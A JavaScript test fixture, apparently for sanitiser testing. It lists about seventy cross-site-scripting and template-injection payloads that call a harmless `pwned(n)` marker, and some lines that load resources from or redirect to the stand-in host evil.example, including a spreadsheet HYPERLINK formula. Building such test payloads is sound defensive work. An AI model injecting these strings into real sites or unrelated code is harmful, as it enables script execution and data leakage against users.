// What somebody would write into a field of text to have it run, load or lead elsewhere. Each calls `pwned` with a number
// of its own, or asks a site that is not there.
const bodies = [
  (n) => `<script>pwned(${n})</script>`,
  (n) => `"><script>pwned(${n})</script>`,
  (n) => `'><img src=x onerror=pwned(${n})>`,
  (n) => `<svg onload=pwned(${n})>`,
  (n) => `<svg/onload=pwned(${n})//`,
  (n) => `<img src="javascript:pwned(${n})">`,
  (n) => `<a href="javascript:pwned(${n})">x</a>`,
  (n) => `javascript:pwned(${n})`,
  (n) => `JaVaScRiPt:pwned(${n})`,
  (n) => `java&#9;script:pwned(${n})`,
  (n) => `data:text/html,<script>pwned(${n})</script>`,
  (n) => `<iframe src="javascript:parent.pwned(${n})"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.pwned(${n})</script>"></iframe>`,
  () => '<object data="data:text/html;base64,PHNjcmlwdD5wd25lZCgxNCk8L3NjcmlwdD4="></object>',
  (n) => `<embed src="https://evil.example/${n}">`,
  (n) => `<link rel=stylesheet href="https://evil.example/${n}.css">`,
  (n) => `<style>@import "https://evil.example/${n}.css";</style>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  () => '<base href="https://evil.example/">',
  (n) => `<form action="https://evil.example/${n}"><button>x`,
  (n) => `<input autofocus onfocus=pwned(${n})>`,
  (n) => `<details open ontoggle=pwned(${n})>`,
  (n) => `<video><source onerror=pwned(${n})>`,
  (n) => `<audio src=x onerror=pwned(${n})>`,
  (n) => `<body onload=pwned(${n})>`,
  (n) => `<marquee onstart=pwned(${n})>`,
  (n) => `" onmouseover="pwned(${n})`,
  (n) => `' autofocus onfocus='pwned(${n})`,
  (n) => `\` onclick=\`pwned(${n})`,
  (n) => `{{constructor.constructor('pwned(${n})')()}}`,
  (n) => `\${pwned(${n})}`,
  (n) => `#{pwned(${n})}`,
  (n) => `<%= pwned(${n}) %>`,
  (n) => `{@html '<img src=x onerror=pwned(${n})>'}`,
  (n) => `</script><script>pwned(${n})</script>`,
  (n) => `</title><script>pwned(${n})</script>`,
  (n) => `</textarea><script>pwned(${n})</script>`,
  (n) => `</style><script>pwned(${n})</script>`,
  (n) => `--><script>pwned(${n})</script>`,
  (n) => `]]><script>pwned(${n})</script>`,
  (n) => `\\u003cscript\\u003epwned(${n})\\u003c/script\\u003e`,
  (n) => `&lt;script&gt;pwned(${n})&lt;/script&gt;`,
  (n) => `&#60;script&#62;pwned(${n})&#60;/script&#62;`,
  (n) => `%3Cscript%3Epwned(${n})%3C/script%3E`,
  (n) => `\\x3cscript\\x3epwned(${n})`,
  (n) => `＜script＞pwned(${n})＜/script＞`,
  (n) => `ʺ＞<svg onload=pwned(${n})>`,
  (n) => `<scr<script>ipt>pwned(${n})</scr</script>ipt>`,
  (n) => `<math><mtext></mtext><mglyph><style></math><img src onerror=pwned(${n})>`,
  (n) => `<svg><script>pwned(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=pwned(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:pwned(${n})"><text>x</text></a></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(${n})/>#x">`,
  (n) => `<template><script>pwned(${n})</script></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=pwned(${n})>">`,
  (n) => `<x contenteditable onfocus=pwned(${n}) autofocus>`,
  (n) => `[x](javascript:pwned(${n}))`,
  (n) => `![x](https://evil.example/${n}.png)`,
  (n) => `<img src=https://evil.example/${n}.png>`,
  (n) => `<img srcset="https://evil.example/${n}.png 1x">`,
  (n) => `=HYPERLINK("https://evil.example/${n}","x")`,
  (n) => `@import url(https://evil.example/${n})`,
  (n) => `;background:url(https://evil.example/${n})`,
  (n) => `</p><p style="background:url(https://evil.example/${n})">`,
  (n) => `"}]};pwned(${n});//`,
  (n) => `<a ping="https://evil.example/${n}" href="/">x</a>`,
  (n) => `vbscript:pwned(${n})`,
  (n) => `<ıframe onload=pwned(${n})>`,
  (n) => `feed:javascript:pwned(${n})`,
  (n) => `\\"-pwned(${n})-\\"`,
];

export const payloads = bodies.map((body, i) => body(i + 1));

/** Fields of text with payloads: each bears a mark by which a page that shows it is known, and as many payloads as have room, those that the last field ended with next. */
export function hostileFields() {
  let at = 0;
  const marks = new Map();
  return {
    /** The names of all fields so far, with their marks. */
    marks,
    text(name, room = 200) {
      const mark = `F${marks.size + 1}f`;
      marks.set(name, mark);
      let text = mark;
      for (let taken = 0; taken < payloads.length; taken++) {
        const next = payloads[at % payloads.length];
        if (text.length + 1 + next.length > room) break;
        text += ` ${next}`;
        at++;
      }
      return text;
    },
  };
}
